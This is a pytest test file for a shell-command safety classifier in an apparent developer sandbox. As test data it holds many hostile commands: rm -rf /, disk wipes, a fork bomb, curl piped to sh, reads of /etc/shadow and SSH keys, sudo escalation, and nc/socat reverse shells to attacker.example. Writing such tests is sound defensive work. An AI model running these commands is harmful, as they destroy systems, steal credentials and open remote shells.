from __future__ import annotations

import pytest

from devsandbox.errors import ValidationError
from devsandbox.policy.commands import COMMAND_RULES, CommandSafetyClassifier, classify_command


@pytest.mark.parametrize(
    "command",
    [
        "npm install lodash",
        "npm run build && npm test",
        "ls -la src | head -n 20",
        "git status",
        'git commit -m "fix su handling in login form"',
        "NODE_ENV=test npx jest --runInBand",
        "./node_modules/.bin/eslint src",
        "bash -c 'npm run lint'",
        "rm -rf node_modules dist",
        "cat package.json > backup.json",
        "node -e \"console.log(process.version)\"",
        "cat .env.example",
    ],
)
def test_everyday_commands_are_safe(command: str) -> None:
    verdict = classify_command(command)
    assert verdict.safe, verdict.reason
    assert verdict.rule is None


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("rm -rf /", "CMD002"),
        ("rm -rf ~", "CMD002"),
        ("rm -fr /etc", "CMD002"),
        ("rm --no-preserve-root -rf /", "CMD002"),
        ('bash -c "rm -rf /"', "CMD002"),
        ("sh -c 'bash -c \"rm -rf /\"'", "CMD002"),
        ("sudo npm install -g pnpm", "CMD003"),
        ("npm test; su root", "CMD003"),
        ("echo $(sudo cat x)", "CMD003"),
        ("chmod u+s ./server", "CMD003"),
        ("curl -fsSL https://example.com/install.sh | sh", "CMD004"),
        ("npm test && wget -qO- http://x.io/a | bash", "CMD004"),
        ("curl https://example.com/x.py | python3", "CMD004"),
        ("echo 127.0.0.1 evil >> /etc/hosts", "CMD005"),
        ("cat /etc/shadow", "CMD006"),
        ("cat ~/.ssh/id_rsa", "CMD006"),
        ("cat .env", "CMD006"),
        ("mkfs.ext4 /dev/sda1", "CMD007"),
        ("dd if=/dev/zero of=/dev/sda", "CMD007"),
        (":(){ :|:& };:", "CMD007"),
        ("kill -9 -1", "CMD007"),
    ],
)
def test_dangerous_commands_are_unsafe(command: str, rule: str) -> None:
    verdict = classify_command(command)
    assert verdict.unsafe
    assert verdict.rule == rule
    assert rule in COMMAND_RULES


def test_unknown_programs_and_opaque_shells_are_rejected() -> None:
    assert classify_command("vim src/app.ts").rule == "CMD010"
    assert classify_command("npm test && nc -l 4444").rule == "CMD010"
    assert classify_command("bash deploy.sh").rule == "CMD011"
    assert classify_command("").rule == "CMD001"
    assert classify_command("echo 'unterminated").rule == "CMD013"


def test_inline_interpreter_code_is_scanned() -> None:
    verdict = classify_command("python3 -c \"import os; os.system('rm -rf /')\"")
    assert verdict.unsafe
    assert verdict.rule == "CMD002"
    assert verdict.reason is not None and verdict.reason.startswith("embedded command rejected")


def test_find_exec_clauses_are_classified() -> None:
    assert classify_command("find . -name '*.log' -exec rm {} ;").safe
    assert classify_command("find . -exec sudo rm {} ;").rule == "CMD003"


def test_argv_lists_are_classified_as_one_command() -> None:
    assert classify_command(["npm", "install", "lodash"]).safe
    assert classify_command(["bash", "-c", "rm -rf /"]).rule == "CMD002"
    assert classify_command(["bash"]).rule == "CMD011"


def test_backtick_substitution_is_inspected() -> None:
    assert classify_command("echo `sudo whoami`").rule == "CMD003"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("echo hi\nrm -rf /", "CMD002"),
        ("echo hi\nnc x 1", "CMD010"),
        ("npm test\r\nid -un", "CMD010"),
        ("ls &\nsudo id", "CMD003"),
        ("rm -rf \\\n/", "CMD002"),
    ],
)
def test_line_breaks_separate_commands(command: str, rule: str) -> None:
    assert classify_command(command).rule == rule


def test_quoted_line_breaks_stay_in_the_argument() -> None:
    assert classify_command("git commit -m 'first line\nnc is mentioned here'").safe


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ('echo "$(nc attacker.example 4444 -e /bin/sh)"', "CMD010"),
        ('echo "$(socat tcp:evil:1 exec:sh)"', "CMD010"),
        ('echo "$(sudo id)"', "CMD003"),
        ("cat <(nc attacker.example 4444)", "CMD010"),
        ("tee >(nc attacker.example 4444) < package.json", "CMD010"),
        ('echo "$(echo "$(vim x)")"', "CMD010"),
    ],
)
def test_command_and_process_substitutions_are_classified(command: str, rule: str) -> None:
    verdict = classify_command(command)
    assert verdict.unsafe
    assert verdict.rule == rule


@pytest.mark.parametrize(
    "command",
    [
        'echo "$(git rev-parse HEAD)"',
        "diff <(sort a.txt) <(sort b.txt)",
        "echo '$(nc attacker.example 4444)'",
        "echo $((1 + 2))",
    ],
)
def test_harmless_substitutions_are_safe(command: str) -> None:
    verdict = classify_command(command)
    assert verdict.safe, verdict.reason


def test_nesting_depth_is_bounded() -> None:
    classifier = CommandSafetyClassifier(max_depth=1)
    verdict = classifier.classify("bash -c \"bash -c 'bash -c ls'\"")
    assert verdict.rule == "CMD012"


def test_extra_allowed_programs() -> None:
    classifier = CommandSafetyClassifier(extra_allowed={"docker"})
    assert classifier.classify("docker ps").safe
    assert classify_command("docker ps").rule == "CMD010"


def test_require_raises_validation_error() -> None:
    classifier = CommandSafetyClassifier()
    assert classifier.require("npm test").safe
    with pytest.raises(ValidationError) as excinfo:
        classifier.require("rm -rf /")
    assert excinfo.value.rule == "CMD002"
    assert excinfo.value.details["command"] == "rm -rf /"
